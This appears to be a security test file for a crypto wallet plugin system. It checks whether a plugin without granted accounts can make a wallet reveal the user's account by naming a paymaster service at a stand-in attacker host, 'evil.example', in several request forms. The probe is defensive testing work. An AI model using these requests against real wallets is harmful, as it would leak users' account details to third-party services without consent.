import { page, settled, spy, thief, until } from './world.mjs'

export const row = 'SEC-86'

const permissions = ['wallet:request']
const service = { paymasterService: { url: 'https://evil.example/pm' } }
const call = { to: thief, value: '0x1' }
const batch = (members) => ['wallet_sendCalls', { version: '2.0.0', chainId: '0x1', ...members }]

/** Each place in which a wallet looks for who pays its fee. */
const ways = [
  batch({ calls: [call], capabilities: service }),
  batch({ calls: [{ ...call, capabilities: service }] }),
  ['eth_sendTransaction', { ...call, capabilities: service }],
]

/**
 * It may ask a wallet, and was not granted accounts. The request names a service of its own that pays the fee: a wallet asks
 * that one whether it pays for this account, before the visitor has agreed to anything.
 */
export async function attack() {
  const got = []
  for (const [method, request] of ways) {
    let rpc
    const evil = spy({ permissions }, (_, ctx) => void (rpc = ctx.rpc))
    const { kit, wallet } = await page({
      plugins: [evil],
      grants: { 'evil/plugin': permissions },
      reviewRequests: 'never',
    })
    await until(() => rpc, 'its set-up')
    rpc.request({ method, params: [request] }).catch(() => {})
    await settled(30)
    const isTold = wallet.requests.some(({ params }) =>
      JSON.stringify(params).includes('evil.example'),
    )
    await kit.dispose()
    if (isTold) got.push(method)
  }
  return got.length > 0 ? `the account, by ${got.join(', ')}` : undefined
}
